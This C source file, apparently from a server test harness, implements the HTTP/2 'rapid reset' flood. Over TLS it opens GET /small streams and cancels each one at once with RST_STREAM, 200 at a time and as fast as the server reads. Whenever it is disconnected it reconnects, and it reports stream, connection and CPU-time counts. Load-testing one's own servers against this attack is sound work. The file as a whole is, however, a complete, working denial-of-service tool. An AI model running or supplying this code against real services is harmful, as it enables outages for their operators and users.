// cc: -lssl -lcrypto
// resets PORT NAME SECONDS: one HTTP/2 connection at a time that opens a stream with GET /small and resets it, as fast as the
// server reads; where the server has enough and closes, it comes again at once. It prints how many streams it opened, how
// often it had to connect, and the CPU time that took.
#include "../live/live.h"

#include <fcntl.h>
#include <openssl/ssl.h>
#include <poll.h>

enum { PAIRS = 200, PAIR_MAX = 9 + 128 + 13 };

static unsigned char batch[PAIRS * PAIR_MAX];
static int batch_length, pair_length;

static unsigned char *frame(unsigned char *at, int length, int type, int flags, unsigned stream)
{
	unsigned char head[] = {length >> 16, length >> 8, length, type, flags, stream >> 24, stream >> 16, stream >> 8, stream};
	return (unsigned char *)memcpy(at, head, sizeof head) + sizeof head;
}

// HEADERS (RFC 9113 §6.2) with END_STREAM and END_HEADERS, and RST_STREAM with CANCEL, over and over; HPACK without a table.
static void make_batch(const char *name)
{
	unsigned char block[128], *end = block, *at = batch;
	*end++ = 0x82;
	*end++ = 0x87;
	*end++ = 0x04;
	*end++ = 6;
	end = (unsigned char *)memcpy(end, "/small", 6) + 6;
	*end++ = 0x01;
	*end++ = strlen(name);
	end = (unsigned char *)memcpy(end, name, strlen(name)) + strlen(name);
	for (int i = 0; i < PAIRS; i++) {
		at = frame(at, end - block, 1, 0x5, 0);
		at = (unsigned char *)memcpy(at, block, end - block) + (end - block);
		at = frame(at, 4, 3, 0, 0);
		at = (unsigned char *)memcpy(at, "\0\0\0\x08", 4) + 4;
	}
	batch_length = at - batch;
	pair_length = batch_length / PAIRS;
}

static void number_batch(unsigned first)
{
	for (int i = 0; i < PAIRS; i++) {
		unsigned stream = htonl(first + 2 * i);
		memcpy(batch + i * pair_length + 5, &stream, 4);
		memcpy(batch + (i + 1) * pair_length - 8, &stream, 4);
	}
}

static SSL *connected(SSL_CTX *context, int port, const char *name, int number)
{
	static const char hello[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0";
	int sock = connect_to(port, number, 0);
	SSL *ssl = SSL_new(context);
	if (sock >= 0 && ssl && SSL_set_fd(ssl, sock) && SSL_set_tlsext_host_name(ssl, name) && SSL_connect(ssl) == 1 &&
	    SSL_write(ssl, hello, sizeof hello - 1) > 0) {
		fcntl(sock, F_SETFL, O_NONBLOCK);
		return ssl;
	}
	if (sock >= 0)
		close(sock);
	SSL_free(ssl);
	return NULL;
}

// Whether the connection may go on after `result`.
static int goes_on(SSL *ssl, int result)
{
	int error = SSL_get_error(ssl, result);
	return result > 0 || error == SSL_ERROR_WANT_READ || error == SSL_ERROR_WANT_WRITE;
}

// How many streams the connection opened until it ended or the time was over.
static long attack(SSL *ssl, long long deadline)
{
	static const char ack[] = "\0\0\0\4\1\0\0\0\0";
	char answers[16384];
	long streams = 0;
	unsigned next = 1;
	number_batch(next);
	SSL_write(ssl, ack, sizeof ack - 1);
	while (now_ns() < deadline && next < 0x7fff0000) {
		int wrote = SSL_write(ssl, batch, batch_length), got;
		if (wrote > 0) {
			streams += PAIRS;
			next += 2 * PAIRS;
			number_batch(next);
		} else if (!goes_on(ssl, wrote)) {
			break;
		}
		while ((got = SSL_read(ssl, answers, sizeof answers)) > 0)
			;
		if (!goes_on(ssl, got))
			break;
		struct pollfd ready = {.fd = SSL_get_fd(ssl), .events = POLLIN | POLLOUT};
		if (wrote <= 0)
			poll(&ready, 1, 100);
	}
	return streams;
}

int main(int count, char **arguments)
{
	prepare_process();
	if (count != 4)
		return fprintf(stderr, "resets PORT NAME SECONDS\n"), 1;
	SSL_CTX *context = SSL_CTX_new(TLS_client_method());
	SSL_CTX_set_alpn_protos(context, (const unsigned char *)"\2h2", 3);
	make_batch(arguments[2]);
	long long deadline = now_ns() + atoi(arguments[3]) * 1000000000LL;
	long streams = 0, connections = 0, refused = 0;
	while (now_ns() < deadline) {
		SSL *ssl = connected(context, atoi(arguments[1]), arguments[2], connections + refused);
		if (!ssl) {
			refused++;
			sleep_until(now_ns() + 1000000);
			continue;
		}
		connections++;
		streams += attack(ssl, deadline);
		close(SSL_get_fd(ssl));
		SSL_free(ssl);
	}
	struct timespec used;
	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &used);
	printf("{\"streams\": %ld, \"connections\": %ld, \"refused\": %ld, \"cpu_seconds\": %.3f}\n", streams, connections, refused,
	       used.tv_sec + used.tv_nsec / 1e9);
	return 0;
}
